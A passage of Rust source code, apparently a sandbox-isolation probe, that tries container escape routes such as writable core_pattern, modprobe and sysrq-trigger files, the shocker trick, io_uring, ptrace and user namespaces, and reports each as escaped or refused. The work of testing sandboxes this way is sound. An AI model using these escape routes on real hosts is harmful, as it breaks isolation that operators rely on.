fn attack_masked() -> Outcome {
    let mut hits = Vec::new();
    for p in MASKED {
        let Ok(md) = std::fs::metadata(p) else {
            continue;
        };
        let seen = if md.is_dir() {
            std::fs::read_dir(p).is_ok_and(|mut d| d.next().is_some())
        } else {
            open(p, libc::O_RDONLY).is_ok_and(|fd| {
                let data = read_fd(fd, 64);
                close(fd);
                !data.is_empty()
            })
        };
        if seen {
            hits.push(p);
        }
    }
    if hits.is_empty() {
        Err((0, "every masked path is empty or absent".into()))
    } else {
        Ok(format!("read {}", hits.join(" ")))
    }
}

/// A field of /proc/PID/status.
fn status_field(pid: &str, key: &str) -> Option<String> {
    let text = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    text.lines()
        .find_map(|l| l.strip_prefix(key)?.strip_prefix(':'))
        .map(|v| v.trim().to_string())
}

fn caps(pid: &str, key: &str) -> u64 {
    status_field(pid, key)
        .and_then(|v| u64::from_str_radix(&v, 16).ok())
        .unwrap_or(0)
}

fn attack_pid1(args: &[String]) -> Outcome {
    let bnd = caps("self", "CapBnd");
    let cg = std::fs::read_to_string("/proc/self/cgroup").unwrap_or_default();
    let mut hits = Vec::new();
    let pids: Vec<String> = std::fs::read_dir("/proc")
        .map(|rd| {
            rd.filter_map(Result::ok)
                .filter_map(|e| e.file_name().to_str().map(String::from))
                .filter(|n| n.bytes().all(|b| b.is_ascii_digit()))
                .collect()
        })
        .unwrap_or_default();
    // the prefixes come hex-encoded, so that this probe's own command line names none of them
    let prefixes: Vec<String> = args
        .iter()
        .map(|h| {
            let b: Vec<u8> = (0..h.len() / 2)
                .filter_map(|i| u8::from_str_radix(h.get(2 * i..2 * i + 2)?, 16).ok())
                .collect();
            String::from_utf8_lossy(&b).into_owned()
        })
        .filter(|p| !p.is_empty())
        .collect();
    // this probe's own processes (their command lines hold the other classes' host paths)
    let me = std::fs::metadata("/proc/self/exe")
        .ok()
        .map(|m| (m.dev(), m.ino()));
    for pid in &pids {
        let them = std::fs::metadata(format!("/proc/{pid}/exe"))
            .ok()
            .map(|m| (m.dev(), m.ino()));
        if them.is_some() && them == me {
            continue;
        }
        let extra = (caps(pid, "CapEff") | caps(pid, "CapBnd")) & !bnd;
        if extra != 0 {
            hits.push(format!("pid {pid} has capabilities {extra:#x} beyond ours"));
        }
        let theirs = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap_or_default();
        if !theirs.is_empty() && theirs != cg {
            hits.push(format!("pid {pid} is in another cgroup"));
        }
        let cmd = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        let exe = std::fs::read_link(format!("/proc/{pid}/exe"))
            .map(|l| l.to_string_lossy().into_owned())
            .unwrap_or_default();
        for pre in &prefixes {
            if contains(&cmd, pre) || exe.contains(pre.as_str()) {
                hits.push(format!("pid {pid} names the host path {pre}"));
            }
        }
    }
    if hits.is_empty() {
        Err((
            0,
            format!("{} processes, none stronger or outside", pids.len()),
        ))
    } else {
        Ok(hits.join(", "))
    }
}

fn run_class(class: &str, args: &[String]) -> Outcome {
    match class {
        "mknod" => attack_mknod(args),
        "kvm" => attack_kvm(),
        "fds" => attack_fds(args),
        "cwd" => attack_cwd(args),
        "chroot" => attack_chroot(args),
        "selfexe" => attack_selfexe(args),
        "keyread" => attack_keyread(args),
        "keyadd" => attack_keyadd(args),
        "keyctl" => attack_keyctl(),
        "shocker" => attack_shocker(args),
        "io_uring" => attack_io_uring(),
        "perf" => attack_perf(),
        "userfaultfd" => attack_userfaultfd(),
        "userns" => attack_userns(),
        "mount" => attack_mount(),
        "ptrace" => attack_ptrace(args),
        "sysrq" => open_for_write("/proc/sysrq-trigger"),
        "sysfs" => first_writable(&[
            "/sys/kernel/uevent_helper",
            "/sys/kernel/mm/ksm/run",
            "/sys/kernel/profiling",
            "/sys/power/state",
            "/sys/module/kernel/parameters/panic",
        ]),
        "procsys" => first_writable(&[
            "/proc/sys/kernel/core_pattern",
            "/proc/sys/kernel/modprobe",
            "/proc/sys/vm/drop_caches",
        ]),
        "module" => attack_module(),
        "passwd" => attack_passwd(args),
        "whoami" => whoami(),
        "devplant" => attack_devplant(args),
        "logfd" => attack_logfd(),
        "masked" => attack_masked(),
        "pid1" => attack_pid1(args),
        _ => Err((libc::EINVAL, format!("unknown class {class}"))),
    }
}

/// Run one class in a child process and print its line.
fn one(class: &str, args: &[String]) {
    let _ = std::io::stdout().flush();
    // SAFETY: fork in a single-threaded program; the child only runs the attack and exits.
    let pid = unsafe { libc::fork() };
    if pid == 0 {
        let line = match run_class(class, args) {
            Ok(what) => format!("ESCAPED {class} {what}"),
            Err((e, what)) => format!("REFUSED {class} {} {what}", errname(e)),
        };
        println!("{line}");
        let _ = std::io::stdout().flush();
        // SAFETY: leaving the child without running the parent's exit handlers.
        unsafe { libc::_exit(0) };
    }
    if pid < 0 {
        println!("REFUSED {class} {} fork", errname(errno()));
        return;
    }
    let mut st = 0;
    // SAFETY: waiting for our child.
    unsafe { libc::waitpid(pid, &raw mut st, 0) };
    if !libc::WIFEXITED(st) {
        println!("REFUSED {class} KILLED the attack died (status {st})");
    }
}

/// `probe attack CLASS ARGS... [+ CLASS ARGS...]`.
pub fn main(args: &[String]) -> i32 {
    if args.is_empty() {
        eprintln!("probe: usage: probe attack CLASS [ARGS...] [+ CLASS [ARGS...]]...");
        return 2;
    }
    for group in args.split(|a| a == "+") {
        if let Some((class, rest)) = group.split_first() {
            one(class, rest);
        }
    }
    let _ = std::io::stdout().flush();
    0
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn errno_names() {
        assert_eq!(errname(libc::EPERM), "EPERM");
        assert_eq!(errname(libc::EROFS), "EROFS");
        assert_eq!(errname(4095), "E4095");
    }

    #[test]
    fn token_search() {
        assert!(contains(b"abcTOKENdef", "TOKEN"));
        assert!(!contains(b"abc", "TOKEN"));
        assert!(!contains(b"abc", ""));
    }
}
